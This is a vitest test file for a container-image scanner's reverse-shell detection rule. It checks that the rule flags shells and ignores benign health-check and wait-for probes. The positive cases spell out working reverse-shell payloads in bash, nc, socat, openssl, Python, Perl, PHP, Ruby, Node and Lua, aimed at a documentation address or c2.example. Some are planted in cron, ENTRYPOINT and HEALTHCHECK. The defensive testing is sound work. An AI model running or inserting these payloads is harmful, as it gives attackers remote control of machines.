import { describe, expect, it } from 'vitest';
import { judge } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { reverseShell } from './index.ts';

const HOST = '203.0.113.9';

function find(text: string, path = 'opt/run.sh'): readonly Finding[] {
  return judge([reverseShell], { layers: [{ [path]: text }], startFiles: [path] }).findings;
}

describe('reverse-shell finds', () => {
  it.each([
    ['bash -i', `#!/bin/sh\nbash -i >& /dev/tcp/${HOST}/4444 0>&1\n`],
    ['sh -c around it', `#!/bin/sh\nnohup setsid bash -c 'bash -i >& /dev/tcp/${HOST}/4444 0>&1' &\n`],
    ['a descriptor', `#!/bin/bash\nexec 5<>/dev/tcp/${HOST}/4444\nwhile read l <&5; do $l 2>&5 >&5; done\n`],
    ['a shell on a descriptor', `#!/bin/bash\nexec 196<>/dev/tcp/${HOST}/4444; sh <&196 >&196 2>&196\n`],
    ['nc -e', `#!/bin/sh\nwhile true; do nc ${HOST} 4444 -e /bin/sh; sleep 60; done\n`],
    ['busybox nc', `#!/bin/sh\nbusybox nc ${HOST} 4444 -e sh\n`],
    ['ncat --sh-exec', `#!/bin/sh\nncat --ssl ${HOST} 443 --sh-exec /bin/bash\n`],
    ['mkfifo', `#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${HOST} 4444 >/tmp/f\n`],
    [
      'openssl',
      `#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${HOST}:443 > /tmp/s\n`,
    ],
    ['socat', `#!/bin/sh\nsocat TCP:${HOST}:4444 EXEC:'bash -li',pty,stderr,setsid\n`],
    ['telnet', `#!/bin/sh\ntelnet ${HOST} 4444 | /bin/sh | telnet ${HOST} 4445\n`],
    ['put together', `#!/bin/bash\na=/dev/t; b=cp/${HOST}/4444; s=ba; \${s}sh -i >& "$a$b" 0>&1\n`],
    [
      'base64',
      `#!/bin/sh\necho ${Buffer.from(`bash -i >& /dev/tcp/${HOST}/4444 0>&1`).toString('base64')} | base64 -d | bash\n`,
    ],
    [
      'python',
      `#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("${HOST}",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn("/bin/bash")\n`,
    ],
    [
      'python -c',
      `#!/bin/sh\npython3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${HOST}",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'\n`,
    ],
    [
      'python command loop',
      `#!/usr/bin/env python3\nimport socket, subprocess\nc = socket.create_connection(("c2.example", 443))\nwhile True:\n    cmd = c.recv(4096)\n    c.send(subprocess.check_output(cmd, shell=True))\n`,
    ],
    [
      'perl',
      `#!/usr/bin/perl\nuse Socket;$i="${HOST}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\n`,
    ],
    ['php', `#!/usr/bin/php\n<?php $sock=fsockopen("${HOST}",4444);exec("/bin/sh -i <&3 >&3 2>&3");\n`],
    [
      'ruby',
      `#!/usr/bin/ruby\nrequire 'socket'\nf=TCPSocket.open("${HOST}",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\n`,
    ],
    [
      'node',
      `#!/usr/bin/env node\nconst net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'${HOST}',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\n`,
    ],
    [
      'lua',
      `#!/usr/bin/lua\nlocal s=require("socket");local t=s.tcp();t:connect("${HOST}","4444");while true do local r=t:receive();local f=io.popen(r,"r");t:send(f:read("*a")) end\n`,
    ],
  ])('%s', (_name, text) => {
    const [finding] = find(text);
    expect(finding).toMatchObject({
      rule: 'reverse-shell/remote-shell',
      severity: 'critical',
      confidence: 'high',
    });
  });

  it('the command in ENTRYPOINT, HEALTHCHECK and cron', () => {
    const command = `bash -i >& /dev/tcp/${HOST}/4444 0>&1`;
    const { findings } = judge([reverseShell], {
      layers: [{ 'etc/cron.d/update': `* * * * * root ${command}\n` }],
      config: { Entrypoint: ['/bin/sh', '-c', command], Healthcheck: { Test: ['CMD-SHELL', command] } },
    });
    expect(findings.map(({ evidence }) => evidence[0].path).sort()).toEqual([
      '/etc/cron.d/update',
      'ENTRYPOINT',
      'HEALTHCHECK',
    ]);
    expect(findings[0]?.indicators).toMatchObject([{ kind: 'address', value: `${HOST}:4444` }]);
  });

  it('one in a removed file, and says where it went', () => {
    const { findings } = judge([reverseShell], {
      layers: [{ 'tmp/x.sh': `#!/bin/sh\nnc ${HOST} 4444 -e /bin/sh\n` }, { 'tmp/x.sh': null }],
    });
    expect(findings).toMatchObject([{ severity: 'medium', evidence: [{ path: '/tmp/x.sh', goneIn: 1 }] }]);
  });
});

describe('reverse-shell leaves alone', () => {
  it.each([
    [
      'wait-for-it',
      `#!/usr/bin/env bash\nfor i in 1 2; do (echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1 && break; sleep 1; done\n`,
    ],
    [
      'a timeout probe',
      `#!/bin/sh\ntimeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432' || exit 1\ntimeout 1 bash -c '</dev/tcp/db/5432'\n`,
    ],
    [
      'an HTTP health check',
      `#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e "GET /health HTTP/1.1\\r\\n" >&3\ncat <&3 | grep -q UP\n`,
    ],
    ['nc -z', '#!/bin/sh\nwhile ! nc -z db 5432; do sleep 1; done\n'],
    [
      'ruok',
      '#!/bin/sh\n[ "$(echo ruok | nc 127.0.0.1 2181)" = imok ]\nsh -c \'echo stats\' | nc localhost 11211\n',
    ],
    ['a comment', `#!/bin/sh\n# bash -i >& /dev/tcp/${HOST}/4444 0>&1\necho ok\n`],
    ['a message', `#!/bin/sh\necho "never run: bash -i >& /dev/tcp/${HOST}/4444 0>&1"\n`],
    ['gosu', '#!/bin/sh\nset -e\nif [ "$1" = postgres ]; then exec gosu postgres "$@"; fi\nexec "$@"\n'],
    [
      'openssl s_client',
      '#!/bin/sh\necho | openssl s_client -connect example.org:443 | openssl x509 -noout -dates\n',
    ],
    ['a docker socket proxy', '#!/bin/sh\nsocat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock\n'],
    [
      'a python server',
      '#!/usr/bin/python3\nimport socket, subprocess\ns=socket.socket()\ns.bind(("",80))\nsubprocess.run(["nginx", "-t"])\n',
    ],
  ])('%s', (_name, text) => {
    expect(find(text)).toEqual([]);
  });
});
